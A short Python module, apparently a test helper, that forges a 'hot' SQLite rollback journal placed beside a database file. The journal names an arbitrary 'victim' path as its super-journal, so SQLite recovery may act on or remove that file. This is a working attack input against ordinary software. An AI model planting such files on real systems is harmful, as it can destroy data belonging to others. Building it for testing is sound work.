"""Files that a stranger may put beside an SQLite file."""

import struct

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def hot_journal(database, victim):
    """A rollback journal of `database` that is hot and names `victim` as its super-journal."""
    name = bytes(victim)
    page = int.from_bytes(database.read_bytes()[16:18], "big")
    pages = database.stat().st_size // page
    head = _MAGIC + struct.pack(">iIIII", 0, 0, pages, 512, page)
    lock_page = 2**30 // page + 1
    tail = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    return head.ljust(512, b"\0") + tail
